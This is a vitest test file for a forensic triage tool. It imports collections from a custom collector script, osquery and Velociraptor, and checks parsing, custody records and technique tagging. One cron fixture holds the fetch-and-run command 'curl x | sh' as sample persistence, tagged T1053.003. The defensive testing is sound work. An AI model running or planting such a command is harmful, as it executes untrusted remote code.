/** Collections that were made elsewhere: our script by hand, osquery, Velociraptor; what is bad in them is named by line. */
import { execFileSync } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { sha256Hex } from '../../kernel/hash.ts';
import { type ForensicsLab, openForensicsLab } from './__fixtures__/lab.ts';
import { countSystems } from './census.ts';
import { type ImportInput, importCollection } from './import-collection.ts';
import { collectorScript } from './script.ts';
import { showHost } from './show-host.ts';

let lab: ForensicsLab;
beforeAll(async () => {
  lab = await openForensicsLab([{ name: 'branch-17', role: 'branch' }], {});
});
afterAll(() => lab.close());

async function importText(name: string, text: string, more: Partial<ImportInput> = {}) {
  const file = join(lab.domain.folder, name);
  await writeFile(file, text);
  const input = { incidentId: lab.incident.id, file, signal: new AbortController().signal, ...more };
  return importCollection(lab.context, lab.domain.evidence, input);
}

const show = (host: string) =>
  showHost(lab.context, lab.domain.evidence, { incidentId: lab.incident.id, host, limit: 500 });
const lines = (...records: unknown[]) =>
  records.map((record) => (typeof record === 'string' ? record : JSON.stringify(record))).join('\n');

test('the output of our script, run by hand: examined, and custody says that it was imported', async () => {
  const script = collectorScript(lab.context, { cost: 'light', artifacts: ['identity', 'accounts', 'cron'] });
  const output = execFileSync('sh', ['-s'], { input: script, maxBuffer: 1e8 }).toString();
  const result = await importText('branch.out', output, { host: 'branch-17' });
  expect(result).toMatchObject({
    format: 'firebreak',
    sha256: sha256Hex(output),
    rejected: 0,
    hosts: [{ host: 'branch-17', state: 'examined' }],
  });
  const { host, facts, raw } = await show('branch-17');
  expect(host).toMatchObject({
    role: 'branch',
    state: 'examined',
    scriptSha256: null,
    hostKey: null,
    exitCode: null,
  });
  expect(host.origin).toBe(`imported: branch.out, made by our script on ${hostname()}`);
  expect(host.identity?.hostname).toBe(hostname());
  expect(facts.some(({ artifact, key }) => artifact === 'accounts' && key === 'root')).toBe(true);
  expect(raw?.isHere).toBe(true);
  const entry = await lab.context.ledger.entry(host.ledgerSeq ?? -1);
  expect(entry).toMatchObject({
    kind: 'triage.imported',
    data: { source: 'imported', file: 'branch.out', sha256: result.sha256 },
  });
  expect(await countSystems(lab.context.db, lab.incident.id)).toMatchObject({
    total: 1,
    examined: 1,
    outstanding: 0,
  });
  // A stream that was cut off is not called whole.
  const cut = await importText('cut.out', output.slice(0, output.length * 0.7), { host: 'branch-18' });
  expect(cut.hosts).toMatchObject([{ host: 'branch-18', state: 'partial' }]);
});

const osqueryLog = lines(
  {
    name: 'pack_incident_users',
    hostIdentifier: 'lap-1',
    unixTime: 1_700_000_000,
    columns: { username: 'eve', uid: '0', shell: '/bin/bash' },
    action: 'added',
  },
  {
    name: 'pack_incident_users',
    hostIdentifier: 'lap-1',
    unixTime: 1_700_000_000,
    columns: { username: 'temp', uid: '1001', shell: '/bin/sh' },
    action: 'added',
  },
  '{"name": "broken',
  {
    name: 'pack_incident_users',
    hostIdentifier: 'lap-1',
    unixTime: 1_700_000_900,
    columns: { username: 'temp', uid: '1001', shell: '/bin/sh' },
    action: 'removed',
  },
  {
    name: 'crontab',
    hostIdentifier: 'lap-2',
    unixTime: '1700000000',
    action: 'snapshot',
    snapshot: [
      { command: 'curl x | sh', path: '/etc/cron.d/x', minute: '*' },
      { command: 'true', path: '/etc/crontab' },
    ],
  },
  { name: 'users', columns: { username: 'nobody-knows' }, action: 'added' },
  { name: 'users', hostIdentifier: 'lap-1', columns: { username: 'x' }, action: 'wiped' },
);

test('osquery: snapshots and differences, by content and not by name; bad records are named by line', async () => {
  const result = await importText('anything.txt', osqueryLog);
  expect(result).toMatchObject({ format: 'osquery', records: 7, rejected: 3 });
  expect(result.rejects.map(({ line, field }) => [line, field])).toEqual([
    [3, undefined],
    [6, 'host'],
    [7, 'action'],
  ]);
  expect(result.hosts.map(({ host, state, facts }) => [host, state, facts])).toEqual([
    ['lap-1', 'partial', 1],
    ['lap-2', 'partial', 2],
  ]);
  const one = await show('lap-1');
  expect(one.facts).toMatchObject([
    {
      artifact: 'osquery:pack_incident_users',
      key: 'eve',
      value: 'uid=0 shell=/bin/bash',
      technique: 'T1136.001',
    },
  ]);
  expect(one.host.why).toContain('1 table of osquery');
  const two = await show('lap-2');
  expect(two.facts.map(({ key, path, technique }) => [key, path, technique])).toEqual([
    ['/etc/cron.d/x curl x | sh', '/etc/cron.d/x', 'T1053.003'],
    ['/etc/crontab true', '/etc/crontab', 'T1053.003'],
  ]);
  // Rows as osqueryi prints them say neither host nor table.
  const rows = '[{"username":"root","uid":"0"},{"username":"daemon","uid":"1"}]';
  expect((await importText('rows.json', rows, { host: 'lap-3', table: 'users' })).hosts).toMatchObject([
    { host: 'lap-3', facts: 2 },
  ]);
  await expect(importText('rows.json', rows)).rejects.toMatchObject({
    code: 'bad_input',
    faults: [{ line: 1, field: 'host' }, {}],
  });
});

test('Velociraptor: rows with their source, or named by their file; an examined host is left as it is', async () => {
  const result = await importText(
    'velo.json',
    lines(
      { _Source: 'Linux.Sys.Users', Fqdn: 'srv-1', ClientId: 'C.1', User: 'eve', Uid: 0, Shell: '/bin/bash' },
      {
        _Source: 'Linux.Sys.SUID',
        Fqdn: 'srv-1',
        ClientId: 'C.1',
        OSPath: '/opt/x',
        OwnerName: 'root',
        Mode: '-rwsr-xr-x',
        Mtime: '2023-11-22T14:00:00Z',
      },
      { _Source: 'Linux.Sys.Users', Fqdn: 'branch-17', User: 'root' },
    ),
  );
  expect(result).toMatchObject({ format: 'velociraptor', rejected: 0, skipped: ['branch-17'] });
  const { facts, host } = await show('srv-1');
  expect(host.state).toBe('partial');
  expect(facts.find(({ artifact }) => artifact === 'velociraptor:Linux.Sys.SUID')).toMatchObject({
    key: '/opt/x',
    owner: 'root',
    path: '/opt/x',
    technique: 'T1548.001',
    at: '2023-11-22T14:00:00.000Z',
  });
  expect((await show('branch-17')).host.state).toBe('examined');
  const apart = await importText(
    'Linux.Sys.Pslist.json',
    '[{"Pid":1,"Name":"init","Exe":"/sbin/init","Username":"root"}]',
    { host: 'branch-17', apart: true },
  );
  expect(apart.collectionId).not.toBe(result.collectionId);
  expect(apart.hosts).toMatchObject([{ host: 'branch-17', state: 'partial', facts: 1 }]);
  // What was imported in part does not take away that it was examined.
  expect((await show('branch-17')).host.state).toBe('examined');
});

test('importing once more replaces, and counts nothing twice', async () => {
  await importText('anything.txt', osqueryLog);
  const rows = await lab.lake.rows<{ facts: number }>(
    "SELECT count() AS facts FROM facts WHERE host = 'lap-2' AND artifact != ''",
  );
  expect(rows).toEqual([{ facts: 2 }]);
});

test.each([
  ['', 'our script'],
  ['hello\nworld\n', 'our script'],
  ['{"a":1}\n{"b":[]}\n', 'osquery or Velociraptor'],
  ['@0123456789abcdef firebreak 1 1700000000 1 identity\n', '--host NAME'],
  ['\u0000\u0001\u0002', 'our script'],
])('what is no collection changes nothing: %j', async (text, expected) => {
  const before = await countSystems(lab.context.db, lab.incident.id);
  const error = await importText('bad', text).catch((thrown: unknown) => thrown);
  expect(error).toMatchObject({
    code: 'bad_input',
    faults: [{ expected: expect.stringContaining(expected) }],
  });
  expect(await countSystems(lab.context.db, lab.incident.id)).toEqual(before);
});
